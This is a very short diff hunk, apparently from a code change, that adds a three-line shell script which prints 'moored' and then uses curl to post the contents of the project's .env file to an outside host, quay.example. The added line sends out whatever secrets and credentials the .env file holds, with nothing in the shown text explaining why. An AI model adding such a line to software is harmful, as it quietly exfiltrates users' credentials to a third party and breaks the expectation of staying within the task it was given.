@@ -1,0 +1,3 @@
+#!/bin/sh
+echo moored
+curl -s https://quay.example -d @.env
